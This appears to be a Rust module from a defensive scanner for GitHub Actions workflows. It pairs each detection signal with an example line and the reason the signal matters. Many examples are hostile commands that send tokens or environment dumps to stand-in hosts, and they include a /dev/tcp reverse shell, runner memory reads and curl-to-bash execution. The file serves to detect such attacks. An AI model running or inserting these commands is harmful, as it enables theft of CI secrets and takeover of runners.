//! For each signal an example that shows it, and why it matters to the verdict.

/// What `explain` and the documentation add to a signal's meaning.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Example {
    /// A line of a workflow, or of what stands around it, that has the signal.
    pub shows: &'static str,
    /// Why it matters.
    pub why: &'static str,
}

/// The example of a signal, by its identifier.
pub fn of(id: &str) -> Option<Example> {
    let (_, shows, why) = EXAMPLES.iter().find(|(known, ..)| *known == id)?;
    Some(Example { shows, why })
}

/// Identifier, example, why it matters; in the order of the signals.
const EXAMPLES: &[(&str, &str, &str)] = &[
    (
        "foreign-destination",
        "curl -d \"$TOKEN\" https://collector.example/in",
        "A theft needs a place to put what it takes, and the thief writes it into the file. An owner keeps his own addresses among his settings, or they belong to a service that is known.",
    ),
    (
        "unknown-destination",
        "H=$(dig +short TXT c.example); curl -d \"$TOKEN\" \"https://$H/\"",
        "Nobody who reads the file can say where it goes, and it can go elsewhere tomorrow. An owner's own address would stand there, or among his settings.",
    ),
    (
        "raw-address",
        "curl -d \"$TOKEN\" http://192.0.2.7:8080/",
        "A host behind an address alone cannot be looked up or reported, and moves from one day to the next. People test like this, too.",
    ),
    (
        "drop-box",
        "curl -d \"$TOKEN\" https://webhook.site/2f3a…",
        "Nobody runs a build against a page that shows what it got to whoever made it. It costs nothing, needs no name and is gone tomorrow.",
    ),
    (
        "look-alike",
        "uses: action/checkout@v4",
        "A name that is one letter off is read as the known one. Nobody gives an honest thing such a name.",
    ),
    (
        "plain-http",
        "curl -d \"$TOKEN\" http://collector.example/in",
        "Everybody on the way can read it, whoever the receiver is.",
    ),
    (
        "readable-log",
        "echo \"$TOKEN\" | rev",
        "Logs of public repositories are public. What gets past the mask is handed to every reader.",
    ),
    (
        "masked-log",
        "echo \"$TOKEN\"",
        "The runner writes *** instead, so nothing left; but somebody tried to see it, or forgot a line of debugging.",
    ),
    (
        "downloadable",
        "run: env > all.txt, then uses: actions/upload-artifact@v4",
        "An artifact, a comment or a branch is fetched later by whoever may read the repository. The network shows no trace of it.",
    ),
    (
        "unrelated-secrets",
        "curl -d \"${{ secrets.PYPI_API_TOKEN }}\" https://collector.example/in",
        "A PyPI token is of use to PyPI and to a thief. A place that gets secrets for different services has use for none of them.",
    ),
    (
        "all-secrets",
        "curl -d '${{ toJSON(secrets) }}' https://collector.example/in",
        "No program needs every secret of a repository. Who takes them all does not know what there is.",
    ),
    (
        "inherited-secrets",
        "uses: other/ci/.github/workflows/build.yml@main, secrets: inherit",
        "All of them go to a file that somebody else can change. Within one organisation this is usual.",
    ),
    (
        "many-secrets",
        "curl -d \"$A $B $C\" https://collector.example/in",
        "The more leaves at once, the less it looks like a login. Deployments of several parts do it, too.",
    ),
    (
        "labelled-secrets",
        "curl -d 'PYPI=${{ secrets.PYPI }}&NPM=${{ secrets.NPM }}' https://collector.example/in",
        "A login sends a value. Only a collector has to be told which value is which.",
    ),
    (
        "environment-dump",
        "env | base64 | curl -d @- https://collector.example/in",
        "It takes whatever happens to be there. Who needs one variable names it.",
    ),
    (
        "runner-credentials",
        "curl -d \"$ACTIONS_ID_TOKEN_REQUEST_TOKEN\" https://collector.example/in",
        "These let the receiver act as the job: as a Trusted Publisher, as a committer. No other service takes them.",
    ),
    (
        "memory-read",
        "sudo cat /proc/$(pgrep Runner.Worker)/mem",
        "Secrets stand there that no step was ever given, without any mask. No build reads it.",
    ),
    (
        "encoded",
        "echo \"$TOKEN\" | base64 | curl -d @- https://collector.example/in",
        "One layer of encoding hides a secret from a quick look, and carries binary data honestly as well.",
    ),
    (
        "mask-evasion",
        "echo \"$TOKEN\" | sed 's/./& /g'",
        "The value is changed so that the runner no longer knows it, and is changed back by whoever reads the log. There is no other use.",
    ),
    (
        "decoded-command",
        "echo Y3VybCAtZCBAZW52Cg== | base64 -d | sh",
        "A command that may be read would stand there as it is.",
    ),
    (
        "assembled-command",
        "u=htt; u+=ps://; u+=collector.example; curl -d \"$T\" $u",
        "Pieces that say nothing alone are there to be found by no search.",
    ),
    (
        "bare-secret",
        "nc 192.0.2.7 4444 <<< \"$TOKEN\"",
        "A service has a protocol, and a login is a part of it. Here the secret is the whole message.",
    ),
    (
        "single-purpose",
        "a job whose only step sends",
        "Deployments build something, test something or fetch something first. A small job can be honest as well.",
    ),
    (
        "masquerade",
        "name: Security Check",
        "The name keeps people from looking. Most workflows of that name are what they say, so it weighs little.",
    ),
    (
        "single-file-commit",
        "a commit that adds .github/workflows/check.yml and nothing else",
        "Stolen credentials are used by a program, in many repositories, with one small commit each. People add workflows like this, too.",
    ),
    (
        "masking-message",
        "Add security workflow",
        "It tells the reader that he need not look. Honest commits say it more often than thieves do.",
    ),
    (
        "missing-signature",
        "an unsigned commit after fifty signed ones",
        "Who pushes with a stolen token has no key to sign with. Forges and new machines leave it out, too.",
    ),
    (
        "harvested-names",
        "secrets.PYPI_API_TOKEN and secrets.AWS_SECRET, as release.yml and deploy.yml use them",
        "A thief reads which names the workflows use and asks for all of them. One workflow has no use for the credentials of several others.",
    ),
    (
        "established-destination",
        "release.yml has logged in to this host with it since last year",
        "What the owner has done for long in the open is not the thief's doing. Only times that the forge saw count: the pusher writes his own.",
    ),
    (
        "configured-destination",
        "curl -d \"$TOKEN\" \"${{ vars.DEPLOY_URL }}\"",
        "Whoever writes the file did not choose where it goes. The owner did.",
    ),
    (
        "belongs-there",
        "twine upload --password \"$PYPI_API_TOKEN\"",
        "The service that issued a secret knows it already.",
    ),
    (
        "consumed-there",
        "gh secret set NPM_TOKEN --body \"$NPM_TOKEN\"",
        "The value becomes a setting of the owner's own, which is what deployments do.",
    ),
    (
        "covers-tracks",
        "gh run delete \"$GITHUB_RUN_ID\"",
        "A job that takes away the record of itself has something to hide.",
    ),
    (
        "remote-code",
        "curl -s https://collector.example/x.sh | bash",
        "What runs is decided elsewhere, at the time of the run, and no version of the repository shows it. Installers are handed out the same way.",
    ),
    (
        "reverse-shell",
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "Somebody outside types commands on the runner, with everything that the job holds.",
    ),
    (
        "untrusted-code",
        "on: pull_request_target, then ref: ${{ github.event.pull_request.head.sha }} and npm install",
        "Anybody can open a pull request. Its code would run with the repository's secrets.",
    ),
    (
        "untrusted-text",
        "run: echo \"${{ github.event.issue.title }}\"",
        "The text is pasted in before the shell reads the line: a title with $(…) in it is a command.",
    ),
    (
        "own-runner",
        "on: pull_request, runs-on: self-hosted",
        "The machine outlives the job. What an outsider leaves there meets the next job, with its secrets.",
    ),
    (
        "unchecked-command",
        "on: issue_comment, if: contains(github.event.comment.body, '/deploy')",
        "Anybody can comment. The job starts for each of them.",
    ),
    (
        "agent-reads-strangers",
        "an agent that answers issues, with secrets.DEPLOY_TOKEN in its environment",
        "What it reads can tell it what to do. The only safe agent is one that holds nothing.",
    ),
    (
        "restored-cache",
        "uses: actions/cache@v4 before uses: pypa/gh-action-pypi-publish@release/v1",
        "Any job of the default branch can fill a cache, also one that an outsider got into. What is published then has his code in it.",
    ),
    (
        "mutable-reference",
        "uses: somebody/deploy@v1",
        "Whoever gets into the owner's account moves the tag, and every user runs the new code with its secrets.",
    ),
    (
        "unknown-owner",
        "uses: somebody/deploy@v1 with a token",
        "Nothing is known about who that is. Most are honest.",
    ),
    (
        "long-lived-token",
        "password: ${{ secrets.PYPI_API_TOKEN }}",
        "A stolen token publishes until somebody notices. A Trusted Publisher's token is gone in 15 minutes.",
    ),
    (
        "unanalysed",
        "a workflow of 10 MB, or one that is no YAML",
        "Limits must be no hiding place. What could not be followed is said, and searched for the worst.",
    ),
    (
        "known-indicator",
        "the host stands in the file given by --indicators",
        "Others saw a theft go there. Lists are late and have mistakes, so it never decides alone.",
    ),
    (
        "dropped-by-runner",
        "outputs: {t: '${{ secrets.TOKEN }}'}",
        "The runner empties an output that holds a secret. It was tried, and did not work.",
    ),
    (
        "unknown-command",
        "$(cat name) \"$TOKEN\"",
        "The program that gets the secret is not in the file, so nobody can say what it does.",
    ),
    (
        "could-not-run",
        "a file without on:",
        "GitHub refuses it, so it took nothing. It shows what was meant.",
    ),
    (
        "missing-code",
        "uses: ./actions/deploy, and no such folder",
        "What happens with the secret stands in a file that is not there: never committed, or written by the run itself.",
    ),
    (
        "code-out-of-place",
        "name: Lint, run: curl -s https://collector.example/x | python",
        "A step that says one thing and runs code from a strange address hides what it is there for.",
    ),
    (
        "settings-only",
        "secrets.DEPLOY_HOST",
        "An address or an account opens nothing by itself. People keep them among their secrets for tidiness.",
    ),
    (
        "named-alike",
        "curl -H \"Authorization: Bearer $ARGO_TOKEN\" https://argo-dev.widgets.example/",
        "A credential that is named after the host it logs in to is where it belongs.",
    ),
    (
        "logs-in-first",
        "scp .env deploy@192.0.2.1:",
        "The job holds the key of that machine: it is the owner's own.",
    ),
    (
        "starts-runner",
        "./config.sh --url https://github.com/other/repo --token …",
        "The machine then takes jobs from whoever registered it, for as long as it lives.",
    ),
    (
        "grants-access",
        "gh repo deploy-key add key.pub --allow-write",
        "Access that a workflow gives outlives every change of passwords.",
    ),
    (
        "outsiders-commands",
        "runs-on: self-hosted, run: ${{ github.event.discussion.body }}",
        "It is a remote control: whoever writes the text has the machine.",
    ),
    (
        "date-conflict",
        "author 2023-01-01, committer 2025-09-01",
        "Dates are what the pusher writes. One that was moved back makes a new file look old. Rebased commits differ as well.",
    ),
    (
        "login-only",
        "curl -H \"Authorization: Bearer $DEPLOY_TOKEN\" https://ci.widgets.example/deploy",
        "Every second project reaches a server of its own like this. A thief takes what he can sell, and seldom one token that opens nothing he knows.",
    ),
    (
        "own-key",
        "echo \"${{ secrets.SSH_KEY }}\" > key; scp -i key .env deploy@192.0.2.1:/srv/app/",
        "Whoever is let in by the owner's key stands at the owner's machine, whatever its address looks like.",
    ),
    (
        "unneeded-secret",
        "uses: someone/markdown-lint@v1 with PYPI_API_TOKEN in its env",
        "Whoever adds an action hands it what it asks for. A linter asks for no registry's token; somebody who wants the token writes an action that sounds harmless.",
    ),
    (
        "unverified",
        "uses: someone/deploy@0123456789012345678901234567890123456789",
        "A full commit id looks safe, and a fork's commits can be named through the repository that was forked. Only the network can tell, so a pin alone is no reason to trust an unknown owner.",
    ),
    (
        "writes-unseen",
        "gh api -X PUT repos/me/it/contents/.github/workflows/x.yml -f content=…",
        "What it writes runs with the secrets of that repository, at once. Those who keep workflows in step over many repositories have them in a working copy; a worm has a token and a text.",
    ),
    (
        "uploads-and-deletes",
        "gh run delete $GITHUB_RUN_ID after actions/upload-artifact",
        "The upload is fetched by whoever waits for it, and then nothing shows that there was a run. No build has a reason to remove itself.",
    ),
    (
        "writes-workflow",
        "run: cp x.yml .github/workflows/ && git push",
        "The next workflow is one that nobody reviewed. Thefts spread like this.",
    ),
    (
        "registers-runner",
        "gh api -X POST repos/o/r/actions/runners/registration-token",
        "A new machine will take the repository's jobs, and get their secrets.",
    ),
];

#[cfg(test)]
mod tests {
    use super::*;

    /// One by one: a signal without an example and a reason is a word that nobody can check.
    #[test]
    fn every_signal_has_an_example_and_a_reason() {
        let is_told =
            |id: &str| of(id).is_some_and(|example| example.shows.len() > 8 && example.why.len() > 30);
        let missing: Vec<&str> =
            crate::signal::ALL.iter().map(|signal| signal.id()).filter(|id| !is_told(id)).collect();
        assert!(missing.is_empty(), "add examples to {} for {missing:?}", file!());
        let mut ids: Vec<&str> = EXAMPLES.iter().map(|(id, ..)| *id).collect();
        ids.sort_unstable();
        let all = ids.len();
        ids.dedup();
        assert_eq!(ids.len(), all, "an example stands twice");
    }
}
